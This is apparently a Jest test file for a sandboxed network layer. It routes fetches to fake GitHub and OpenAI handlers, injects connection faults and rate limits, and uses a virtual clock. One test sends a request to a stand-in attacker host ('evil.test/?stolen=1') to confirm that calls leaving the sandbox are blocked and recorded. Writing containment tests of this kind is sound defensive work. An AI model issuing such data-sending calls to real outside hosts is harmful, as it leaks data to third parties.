import { beforeEach, describe, expect, test } from '@jest/globals'
import type { FetchReply } from '../../src/http/fetch.ts'
import { createClock, type DrivenClock } from '../../src/sandbox/clock.ts'
import type { Handler } from '../../src/sandbox/contract.ts'
import * as faults from '../../src/sandbox/faults.ts'
import { json } from '../../src/sandbox/reply.ts'
import { createWire, type Wire } from '../../src/sandbox/wire.ts'
import { unjudged } from '../contract/unjudged.ts'

unjudged('its handlers are nobody’s, and its requests try the wire')

let clock: DrivenClock
let wire: Wire
let effects: string[]

beforeEach(() => {
  clock = createClock(Date.UTC(2026, 10, 16, 2))
  effects = []
  const handler =
    (name: string): Handler =>
    async (request) => {
      effects.push(`${name} ${request.method} ${request.url.pathname} ${request.body}`)
      return json(200, { from: name, accept: request.headers.get('accept') })
    }
  wire = createWire({
    clock,
    handlers: {
      github: handler('github'),
      openai: handler('openai'),
      app: handler('app'),
    },
    names: { 'api.github.com': 'github', 'api.openai.com': 'openai' },
  })
})

function post(url = 'https://api.openai.com/v1/x', signal?: AbortSignal): Promise<FetchReply> {
  const init = { method: 'POST', headers: { Accept: 'text/plain' }, body: 'text', ...(signal ? { signal } : {}) }
  return wire.fetchAs('keyturn')(url, init)
}

describe('the wire', () => {
  test('leads to the host that the address names, with headers in lower case and the body as text', async () => {
    const reply = await post()
    expect(JSON.parse(await reply.text())).toEqual({ from: 'openai', accept: 'text/plain' })
    expect(reply.headers.get('Content-Type')).toMatch(/json/)
    await wire.fetchAs('keyturn')('https://api.github.com/y', {
      method: 'PUT',
      headers: {},
      body: new TextEncoder().encode('bytes'),
    })
    expect(effects).toEqual(['openai POST /v1/x text', 'github PUT /y bytes'])
  })

  test('numbers every request and knows who asked', async () => {
    await post()
    await wire.fetchAs('app')('https://api.github.com/', { method: 'GET', headers: {} })
    expect(wire.calls.map(({ number, host, from }) => [number, host, from])).toEqual([
      [1, 'openai', 'keyturn'],
      [2, 'github', 'app'],
    ])
  })

  test('ends nowhere outside the sandbox, and remembers who wanted there', async () => {
    await expect(post('https://evil.test/?stolen=1')).rejects.toMatchObject({ code: 'ENOTFOUND' })
    expect(wire.strays).toEqual(['POST https://evil.test/'])
    expect(wire.calls).toHaveLength(0)
  })

  test('dates every answer by the virtual clock', async () => {
    await clock.advance(61_000)
    expect((await post()).headers.get('date')).toBe('Mon, 16 Nov 2026 02:01:01 GMT')
  })

  test('dates the answers of faults too', async () => {
    wire.tap(faults.answerWith(() => true, faults.broken()))
    expect((await post()).headers.get('date')).toBe('Mon, 16 Nov 2026 02:00:00 GMT')
  })
})

describe('faults', () => {
  test.each([
    ['a refused connection', faults.refuse, 'ECONNREFUSED', 0],
    ['a lost request', faults.loseRequest, 'ECONNRESET', 0],
    ['a lost answer', faults.loseAnswer, 'ECONNRESET', 1],
  ])('%s is an error, and the effect happened as often as it should', async (_, fault, code, happened) => {
    const remove = wire.tap(fault(() => true))
    await expect(post()).rejects.toMatchObject({ code })
    expect(effects).toHaveLength(happened)
    remove()
    expect((await post()).status).toBe(200)
  })

  test.each([
    ['instead of the effect', faults.answerWith, 0],
    ['after the effect', faults.answerAfter, 1],
  ])('another answer %s', async (_, fault, happened) => {
    wire.tap(fault(() => true, faults.tooMany(30)))
    const reply = await post()
    expect([reply.status, reply.headers.get('retry-after'), effects.length]).toEqual([429, '30', happened])
  })

  test('hit the n-th request that fits and no other', async () => {
    wire.tap(
      faults.answerWith(
        faults.nth(2, (call) => call.host === 'openai'),
        faults.broken(502),
      ),
    )
    const statuses = []
    for (const url of [
      'https://api.openai.com/',
      'https://api.github.com/',
      'https://api.openai.com/',
      'https://api.openai.com/',
    ]) {
      statuses.push((await post(url)).status)
    }
    expect(statuses).toEqual([200, 200, 502, 200])
  })

  test('a hanging request ends when the client hangs up', async () => {
    wire.tap(faults.hang(faults.ofKeyturn))
    const control = new AbortController()
    const hanging = post(undefined, control.signal)
    const ended: unknown[] = []
    hanging.then(() => ended.push('answer')).catch(() => ended.push('error'))
    await clock.advance(86_400_000)
    expect(ended).toEqual([])
    control.abort(new Error('enough'))
    await expect(hanging).rejects.toThrow('enough')
    expect(effects).toHaveLength(0)
  })

  test('a client that hangs up beforehand sends nothing', async () => {
    await expect(post(undefined, AbortSignal.abort(new Error('never mind')))).rejects.toThrow('never mind')
    expect(wire.calls).toHaveLength(0)
  })
})

test('latency is time on the clock, for the code under test and not for the app', async () => {
  const slow = createWire({
    clock,
    handlers: {
      openai: async () => json(200, {}),
    },
    names: { 'api.openai.com': 'openai' },
    latency: 20,
  })
  const begun = clock.now()
  await slow.fetchAs('app')('https://api.openai.com/', { method: 'GET', headers: {} })
  expect(clock.now()).toBe(begun)
  await clock.runUntilIdle(slow.fetchAs('keyturn')('https://api.openai.com/', { method: 'GET', headers: {} }))
  expect(clock.now()).toBe(begun + 20)
})
